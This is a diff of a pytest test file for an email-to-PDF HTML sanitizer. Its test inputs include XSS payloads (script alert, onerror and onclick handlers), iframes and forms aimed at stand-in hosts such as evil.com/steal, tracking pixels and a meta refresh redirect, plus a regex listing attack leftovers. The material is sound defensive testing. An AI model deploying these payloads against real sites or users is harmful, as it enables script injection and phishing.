@@ -1,236 +1,320 @@
 """Unit tests for HTML sanitization security functions."""
 
-import unittest
-
-from eml2pdf.security import sanitize_html
+import re
 
+import pytest
+from lxml import html as lxml_html
 
-class TestSanitizeHtml(unittest.TestCase):
-    """Test HTML sanitization for security vulnerabilities."""
+from eml2pdf.security import sanitize_html
 
-    def test_removes_script_tags(self):
-        """Script tags should be completely removed."""
-        html = (
-            '<p>Safe content</p><script>alert("XSS")</script><p>More safe</p>'
-        )
-        result = sanitize_html(html)
-        self.assertNotIn('<script>', result)
-        self.assertNotIn('alert', result)
-        self.assertIn('<p>Safe content</p>', result)
-        self.assertIn('<p>More safe</p>', result)
-
-    def test_removes_iframe_tags(self):
-        """Iframe tags should be completely removed."""
-        html = '<div>Content</div><iframe src="http://evil.com"></iframe>'
-        result = sanitize_html(html)
-        self.assertNotIn('<iframe', result)
-        self.assertNotIn('evil.com', result)
-
-    def test_removes_object_tags(self):
-        """Object tags should be completely removed."""
-        html = '<p>Text</p><object data="malicious.swf"></object>'
-        result = sanitize_html(html)
-        self.assertNotIn('<object', result)
-        self.assertNotIn('malicious.swf', result)
-
-    def test_removes_embed_tags(self):
-        """Embed tags should be completely removed."""
-        html = '<embed src="evil.swf" type="application/x-shockwave-flash">'
-        result = sanitize_html(html)
-        self.assertNotIn('<embed', result)
-
-    def test_removes_video_tags(self):
-        """Video tags should be completely removed."""
-        html = '<video src="http://tracker.com/video.mp4"></video>'
-        result = sanitize_html(html)
-        self.assertNotIn('<video', result)
-
-    def test_removes_audio_tags(self):
-        """Audio tags should be completely removed."""
-        html = '<audio src="http://tracker.com/audio.mp3"></audio>'
-        result = sanitize_html(html)
-        self.assertNotIn('<audio', result)
-
-    def test_removes_form_tags(self):
-        """Form tags should be completely removed."""
-        html = (
-            '<form action="http://evil.com/steal"><input name="data"></form>'
-        )
-        result = sanitize_html(html)
-        self.assertNotIn('<form', result)
-        self.assertNotIn('evil.com', result)
-
-    def test_removes_meta_tags(self):
-        """Meta tags should be completely removed."""
-        html = '<meta http-equiv="refresh" content="0;url=http://evil.com">'
-        result = sanitize_html(html)
-        self.assertNotIn('<meta', result)
-
-    def test_removes_link_tags(self):
-        """Link tags should be completely removed."""
-        html = '<link rel="stylesheet" href="http://evil.com/style.css">'
-        result = sanitize_html(html)
-        self.assertNotIn('<link', result)
-
-    def test_removes_remote_http_images(self):
-        """Images with http:// URLs should be removed."""
-        html = '<img src="http://tracker.com/pixel.gif" alt="Tracking pixel">'
-        result = sanitize_html(html)
-        self.assertNotIn('tracker.com', result)
-        self.assertNotIn('<img', result)
-
-    def test_removes_remote_https_images(self):
-        """Images with https:// URLs should be removed."""
-        html = '<img src="https://tracker.com/pixel.gif">'
-        result = sanitize_html(html)
-        self.assertNotIn('tracker.com', result)
-        self.assertNotIn('<img', result)
-
-    def test_preserves_data_uri_images(self):
-        """Images with data: URIs should be preserved."""
-        html = (
-            '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAA'
-            'AABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk'
-            'Jggg==">'
-        )
-        result = sanitize_html(html)
-        self.assertIn('data:image', result)
-        self.assertIn('<img', result)
-
-    def test_preserves_cid_images(self):
-        """Images with cid: references should be preserved (attachments)."""
-        html = '<img src="cid:image001.jpg@01DA1234">'
-        result = sanitize_html(html)
-        self.assertIn('cid:', result)
-        self.assertIn('<img', result)
-
-    def test_sanitizes_style_with_url(self):
-        """Style attributes containing url() should be cleared."""
-        html = (
-            '<div style="background: url(http://tracker.com/bg.png)">'
-            'Content</div>'
+# Anything of the multi-vector attack that must not survive sanitization.
+ATTACK_LEFTOVERS = re.compile(
+    '|'.join(
+        map(
+            re.escape,
+            [
+                '<script>',
+                'alert',
+                'tracker.com',
+                '<iframe',
+                'evil.com',
+                'phishing.com',
+                '<form',
+                'onclick',
+                'data-evil',
+            ],
         )
-        result = sanitize_html(html)
-        self.assertNotIn('tracker.com', result)
-        self.assertIn('style=""', result)
-
-    def test_preserves_style_without_url(self):
-        """Style attributes without url() should be preserved."""
-        html = '<div style="color: red; font-weight: bold;">Content</div>'
-        result = sanitize_html(html)
-        self.assertIn('color: red', result)
-        self.assertIn('font-weight: bold', result)
-
-    def test_neutralizes_external_http_links(self):
-        """External http:// links should have href replaced with #."""
-        html = '<a href="http://evil.com/malware">Click here</a>'
-        result = sanitize_html(html)
-        self.assertIn('href="#"', result)
-        self.assertNotIn('evil.com', result)
-        self.assertIn('Click here', result)  # Text should remain
-
-    def test_neutralizes_external_https_links(self):
-        """External https:// links should have href replaced with #."""
-        html = '<a href="https://evil.com">Link</a>'
-        result = sanitize_html(html)
-        self.assertIn('href="#"', result)
-
-    def test_preserves_internal_links(self):
-        """Internal anchor links should be preserved."""
-        html = '<a href="#section1">Go to section</a>'
-        result = sanitize_html(html)
-        self.assertIn('href="#section1"', result)
-
-    def test_removes_onclick_handler(self):
-        """onclick event handlers should be removed."""
-        html = '<button onclick="alert(\'XSS\')">Click</button>'
-        result = sanitize_html(html)
-        self.assertNotIn('onclick', result)
-        self.assertIn('<button>', result)
-
-    def test_removes_onload_handler(self):
-        """onload event handlers should be removed."""
-        html = '<body onload="stealData()">Content</body>'
-        result = sanitize_html(html)
-        self.assertNotIn('onload', result)
-
-    def test_removes_onerror_handler(self):
-        """onerror event handlers should be removed."""
-        html = '<img src="x" onerror="alert(1)">'
-        result = sanitize_html(html)
-        self.assertNotIn('onerror', result)
-
-    def test_removes_onmouseover_handler(self):
-        """onmouseover event handlers should be removed."""
-        html = '<div onmouseover="trackUser()">Hover me</div>'
-        result = sanitize_html(html)
-        self.assertNotIn('onmouseover', result)
-
-    def test_removes_data_attributes(self):
-        """Custom data-* attributes should be removed."""
-        html = '<div data-tracking-id="12345" data-user="john">Content</div>'
-        result = sanitize_html(html)
-        self.assertNotIn('data-tracking-id', result)
-        self.assertNotIn('data-user', result)
-
-    def test_complex_attack_scenario(self):
-        """Test a complex multi-vector attack is fully sanitized."""
-        html = """
-        <div onclick="steal()" data-evil="payload">
-            <script>alert('XSS')</script>
-            <img src="http://tracker.com/pixel.gif">
-            <iframe src="http://evil.com"></iframe>
-            <a href="http://phishing.com">Click here</a>
-            <form action="http://evil.com/steal">
-                <input name="password">
-            </form>
-        </div>
-        """
-        result = sanitize_html(html)
-
-        # Verify all dangerous elements are removed or neutralized
-        self.assertNotIn('<script>', result)
-        self.assertNotIn('alert', result)
-        self.assertNotIn('tracker.com', result)
-        self.assertNotIn('<iframe', result)
-        self.assertNotIn('evil.com', result)
-        self.assertNotIn('phishing.com', result)
-        self.assertNotIn('<form', result)
-        self.assertNotIn('onclick', result)
-        self.assertNotIn('data-evil', result)
-
-        # Link should be neutralized
-        self.assertIn('href="#"', result)
-
-    def test_empty_string(self):
-        """Empty string input should return empty result."""
-        result = sanitize_html('')
-        self.assertEqual(result, '')
-
-    def test_plain_text_only(self):
-        """Plain text without HTML should pass through safely."""
-        html = 'Just plain text with no tags'
-        result = sanitize_html(html)
-        self.assertIn('Just plain text with no tags', result)
-
-    def test_safe_html_preserved(self):
-        """Safe, common HTML elements should be preserved."""
-        html = """
-        <html>
-            <body>
-                <h1>Title</h1>
-                <p>Paragraph with <strong>bold</strong> and <em>italic</em>.
-                </p>
-                <ul>
-                    <li>Item 1</li>
-                    <li>Item 2</li>
-                </ul>
-            </body>
-        </html>
-        """
-        result = sanitize_html(html)
-        self.assertIn('<h1>Title</h1>', result)
-        self.assertIn('<strong>bold</strong>', result)
-        self.assertIn('<em>italic</em>', result)
-        self.assertIn('<ul>', result)
-        self.assertIn('<li>Item 1</li>', result)
+    )
+)
+
+# (name, html, substrings that must not be in the sanitized result) for the
+# risky tags and remote images that are removed altogether.
+REMOVED_TAG_CASES = [
+    (
+        'script',
+        '<p>Safe content</p><script>alert("XSS")</script><p>More safe</p>',
+        ['<script>', 'alert'],
+    ),
+    (
+        'iframe',
+        '<div>Content</div><iframe src="http://evil.com"></iframe>',
+        ['<iframe', 'evil.com'],
+    ),
+    (
+        'object',
+        '<p>Text</p><object data="malicious.swf"></object>',
+        ['<object', 'malicious.swf'],
+    ),
+    (
+        'embed',
+        '<embed src="evil.swf" type="application/x-shockwave-flash">',
+        ['<embed'],
+    ),
+    (
+        'video',
+        '<video src="http://tracker.com/video.mp4"></video>',
+        ['<video'],
+    ),
+    (
+        'audio',
+        '<audio src="http://tracker.com/audio.mp3"></audio>',
+        ['<audio'],
+    ),
+    (
+        'form',
+        '<form action="http://evil.com/steal"><input name="data"></form>',
+        ['<form', 'evil.com'],
+    ),
+    (
+        'meta',
+        '<meta http-equiv="refresh" content="0;url=http://evil.com">',
+        ['<meta'],
+    ),
+    (
+        'link',
+        '<link rel="stylesheet" href="http://evil.com/style.css">',
+        ['<link'],
+    ),
+    (
+        'remote_http_image',
+        '<img src="http://tracker.com/pixel.gif" alt="Tracking pixel">',
+        ['tracker.com', '<img'],
+    ),
+    (
+        'remote_https_image',
+        '<img src="https://tracker.com/pixel.gif">',
+        ['tracker.com', '<img'],
+    ),
+]
+
+
+# (name, html, substrings that must not be in the sanitized result) for the
+# event handler and data attributes that are removed.
+REMOVED_ATTR_CASES = [
+    (
+        'onclick',
+        '<button onclick="alert(\'XSS\')">Click</button>',
+        ['onclick'],
+    ),
+    ('onload', '<body onload="stealData()">Content</body>', ['onload']),
+    ('onerror', '<img src="x" onerror="alert(1)">', ['onerror']),
+    (
+        'onmouseover',
+        '<div onmouseover="trackUser()">Hover me</div>',
+        ['onmouseover'],
+    ),
+    (
+        'data',
+        '<div data-tracking-id="12345" data-user="john">Content</div>',
+        ['data-tracking-id', 'data-user'],
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ('html', 'forbidden'),
+    [(html, forbidden) for _, html, forbidden in REMOVED_TAG_CASES],
+    ids=[name for name, _, _ in REMOVED_TAG_CASES],
+)
+def test_removes_dangerous_tags(html, forbidden):
+    """Risky tags and remote images should be completely removed."""
+    result = sanitize_html(html)
+    for text in forbidden:
+        assert text not in result
+
+
+def test_removes_script_tags_keeps_surroundings():
+    """Content around a removed script tag should be kept."""
+    html = '<p>Safe content</p><script>alert("XSS")</script><p>More safe</p>'
+    result = sanitize_html(html)
+    assert '<p>Safe content</p>' in result
+    assert '<p>More safe</p>' in result
+
+
+@pytest.mark.parametrize(
+    ('html', 'forbidden'),
+    [(html, forbidden) for _, html, forbidden in REMOVED_ATTR_CASES],
+    ids=[name for name, _, _ in REMOVED_ATTR_CASES],
+)
+def test_removes_unsafe_attributes(html, forbidden):
+    """Event handlers and custom data-* attributes should be removed."""
+    result = sanitize_html(html)
+    for text in forbidden:
+        assert text not in result
+
+
+def test_removes_onclick_keeps_element():
+    """The element of a removed event handler should be kept."""
+    result = sanitize_html('<button onclick="alert(\'XSS\')">Click</button>')
+    assert '<button>' in result
+
+
+def test_preserves_data_uri_images():
+    """Images with data: URIs should be preserved."""
+    html = (
+        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAA'
+        'AABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk'
+        'Jggg==">'
+    )
+    result = sanitize_html(html)
+    assert 'data:image' in result
+    assert '<img' in result
+
+
+def test_preserves_cid_images():
+    """Images with cid: references should be preserved (attachments)."""
+    html = '<img src="cid:image001.jpg@01DA1234">'
+    result = sanitize_html(html)
+    assert 'cid:' in result
+    assert '<img' in result
+
+
+def test_sanitizes_style_with_url():
+    """Style attributes containing url() should be cleared."""
+    html = (
+        '<div style="background: url(http://tracker.com/bg.png)">Content</div>'
+    )
+    result = sanitize_html(html)
+    assert 'tracker.com' not in result
+    assert lxml_html.fromstring(result).find('.//div').get('style') == ''
+
+
+def test_preserves_style_without_url():
+    """Style attributes without url() should be preserved."""
+    html = '<div style="color: red; font-weight: bold;">Content</div>'
+    result = sanitize_html(html)
+    assert 'color: red' in result
+    assert 'font-weight: bold' in result
+
+
+def test_neutralizes_external_http_links():
+    """External http:// links should have href replaced with #."""
+    html = '<a href="http://evil.com/malware">Click here</a>'
+    result = sanitize_html(html)
+    link = lxml_html.fromstring(result).find('.//a')
+    assert link.get('href') == '#'
+    assert link.text == 'Click here'  # Text should remain
+    assert 'evil.com' not in result
+
+
+def test_neutralizes_external_https_links():
+    """External https:// links should have href replaced with #."""
+    html = '<a href="https://evil.com">Link</a>'
+    result = sanitize_html(html)
+    assert lxml_html.fromstring(result).find('.//a').get('href') == '#'
+
+
+def test_preserves_internal_links():
+    """Internal anchor links should be preserved."""
+    html = '<a href="#section1">Go to section</a>'
+    result = sanitize_html(html)
+    link = lxml_html.fromstring(result).find('.//a')
+    assert link.get('href') == '#section1'
+
+
+def test_complex_attack_scenario():
+    """Test a complex multi-vector attack is fully sanitized."""
+    html = """
+    <div onclick="steal()" data-evil="payload">
+        <script>alert('XSS')</script>
+        <img src="http://tracker.com/pixel.gif">
+        <iframe src="http://evil.com"></iframe>
+        <a href="http://phishing.com">Click here</a>
+        <form action="http://evil.com/steal">
+            <input name="password">
+        </form>
+    </div>
+    """
+    result = sanitize_html(html)
+
+    # Verify all dangerous elements are removed or neutralized. One scan
+    # that lists every leftover, not just the first one.
+    assert ATTACK_LEFTOVERS.findall(result) == []
+
+    # Link should be neutralized
+    assert 'href="#"' in result
+
+
+def test_empty_string():
+    """Empty string input should return empty result."""
+    html = ''
+    assert sanitize_html(html) is html
+
+
+def test_xml_declaration():
+    """XHTML with an XML encoding declaration should be sanitized."""
+    html = (
+        '<?xml version="1.0" encoding="utf-8"?>'
+        '<html><body><p>Safe</p><script>alert(1)</script></body></html>'
+    )
+    result = sanitize_html(html)
+    assert '<p>Safe</p>' in result
+    assert '<script>' not in result
+
+
+def test_concatenated_documents():
+    """Every document of concatenated HTML parts should be kept."""
+    html = (
+        '<html><body><p>First</p></body></html>\n'
+        '<html><head><style>p {}</style></head>'
+        '<body><p>Second</p><script>alert(1)</script></body></html>'
+    )
+    result = sanitize_html(html)
+    assert '<p>First</p>' in result
+    assert '<p>Second</p>' in result
+    assert '<script>' not in result
+
+
+def test_huge_data_uri_image():
+    """Data URIs over libxml2's 10 MB text limit should be kept whole."""
+    src = 'data:image/png;base64,' + 'A' * 11_000_000
+    result = sanitize_html(f'<img src="{src}"><p>after</p>')
+    assert f'<img src="{src}">' in result
+    assert '<p>after</p>' in result
+
+
+def test_escaped_surrogate_pair():
+    """A surrogate pair from an escaped emoji should become the emoji."""
+    html = rb'<p>a \ud83d\ude00 b</p>'.decode('unicode-escape')
+    assert '<p>a \U0001f600 b</p>' in sanitize_html(html)
+
+
+def test_lone_surrogate():
+    """A lone surrogate should become a single replacement character."""
+    assert '<p>a\ufffd b</p>' in sanitize_html('<p>a\udcff b</p>')
+
+
+def test_plain_text_only():
+    """Plain text without HTML should pass through safely."""
+    html = 'Just plain text with no tags'
+    assert sanitize_html(html) is html
+
+
+def test_long_plain_text_only():
+    """Long plain text should be returned as is, without being parsed."""
+    html = 'just text ' * 100_000
+    assert sanitize_html(html) is html
+
+
+def test_safe_html_preserved():
+    """Safe, common HTML elements should be preserved."""
+    html = """
+    <html>
+        <body>
+            <h1>Title</h1>
+            <p>Paragraph with <strong>bold</strong> and <em>italic</em>.
+            </p>
+            <ul>
+                <li>Item 1</li>
+                <li>Item 2</li>
+            </ul>
+        </body>
+    </html>
+    """
+    result = sanitize_html(html)
+    tree = lxml_html.fromstring(result)
+    assert tree.findtext('.//h1') == 'Title'
+    assert tree.findtext('.//p/strong') == 'bold'
+    assert tree.findtext('.//p/em') == 'italic'
+    items = [li.text for li in tree.iterfind('.//ul/li')]
+    assert items == ['Item 1', 'Item 2']